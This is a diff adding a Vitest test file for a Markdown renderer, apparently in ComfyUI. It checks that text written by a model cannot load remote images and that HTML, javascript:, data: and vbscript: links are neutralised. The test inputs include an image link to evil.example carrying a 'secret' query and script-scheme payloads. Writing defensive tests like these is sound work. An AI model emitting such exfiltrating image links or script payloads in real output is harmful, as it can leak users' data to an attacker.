@@ -1,0 +1,34 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { beforeAll, expect, it, vi } from "vitest";
+import { Markdown } from "./Markdown";
+
+beforeAll(() => {
+  vi.stubGlobal("document", { baseURI: "http://127.0.0.1:8188/" });
+});
+
+const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+it("never lets a model's text load a remote image", () => {
+  const shown = html("![chart](https://evil.example/x.png?q=secret) ![a](/api/view?filename=a.png)");
+  expect(shown.match(/src="[^"]*"/g)).toEqual(['src="http://127.0.0.1:8188/api/view?filename=a.png"']);
+});
+
+it("shows HTML as text", () => {
+  expect(html('<img src="/view?a"> <b>bold</b>')).not.toMatch(/<img|<b>/);
+});
+
+it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x"])("does not link to %s", (address) => {
+  expect(html(`[click](${address})`)).not.toContain(address.split(":")[0]);
+});
+
+it("opens links apart from ComfyUI's page", () => {
+  expect(html("[docs](https://docs.comfy.org)")).toContain(
+    '<a href="https://docs.comfy.org" target="_blank" rel="noopener noreferrer">',
+  );
+});
+
+it("names the language of a code block and offers to copy it", () => {
+  const shown = html("```python\na = 1\n```");
+  expect(shown).toContain("<span>python</span>");
+  expect(shown).toContain('aria-label="Copy code"');
+});
